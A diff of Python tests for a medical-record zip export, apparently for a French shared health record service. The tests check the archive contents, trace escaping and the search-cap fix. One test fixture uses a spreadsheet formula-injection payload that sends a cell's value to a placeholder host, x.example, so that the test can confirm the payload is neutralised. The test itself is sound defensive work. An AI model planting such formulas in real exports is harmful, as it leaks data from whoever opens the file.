@@ -410,7 +410,7 @@ def test_export_is_an_ihe_xdm_zip_with_documents_metadata_and_traces(personas, a
     response = alice_client.get(url("export_zip"))
     assert response.status_code == 200
     assert response["Content-Type"] == "application/zip"
-    archive = zipfile.ZipFile(io.BytesIO(response.content))
+    archive = zipfile.ZipFile(io.BytesIO(response.getvalue()))
     names = set(archive.namelist())
     assert {"README.TXT", "INDEX.HTM", "IHE_XDM/SUBSET01/METADATA.XML", "TRACES.CSV"} <= names
     documents = sorted(n for n in names if n.startswith("IHE_XDM/SUBSET01/DOC"))
@@ -737,7 +737,7 @@ def test_the_traces_file_holds_no_spreadsheet_formula(personas, alice_client):
     reason = '=HYPERLINK("http://x.example/?"&A1,"clic")'
     glass = personas.ps(personas.dr_petit, mode=AccessMode.BREAK_GLASS, reason=reason)
     document_retrieve(caller=glass, unique_id=document.unique_id)
-    archive = zipfile.ZipFile(io.BytesIO(alice_client.get(url("export_zip")).content))
+    archive = zipfile.ZipFile(io.BytesIO(alice_client.get(url("export_zip")).getvalue()))
     rows = list(csv.reader(io.StringIO(archive.read("TRACES.CSV").decode("utf-8-sig")), delimiter=";"))
     cells = [cell for row in rows for cell in row]
     assert f"'{reason}" in cells
@@ -767,3 +767,17 @@ def test_an_exceptional_access_to_a_document_hidden_from_them_is_not_notified(pe
     document_retrieve(caller=glass, unique_id=publish_for(personas, personas.alice, title="Bilan").unique_id)
     assert exceptional_access_notify() == 1
     assert OutboxMessage.objects.filter(destination="alice@example.org").exists()
+
+
+def test_the_export_holds_every_visible_document_past_the_search_cap(personas, alice_client, monkeypatch):
+    """The export took the searches' 5,000 newest documents and said nothing of the others."""
+    import io
+    import zipfile
+
+    from dmp.documents import selectors
+
+    monkeypatch.setattr(selectors, "MAX_RESULTS", 2)
+    for title in ("un", "deux", "trois"):
+        publish_for(personas, personas.alice, title=title)
+    archive = zipfile.ZipFile(io.BytesIO(alice_client.get(url("export_zip")).getvalue()))
+    assert len([n for n in archive.namelist() if n.startswith("IHE_XDM/SUBSET01/DOC")]) == 3
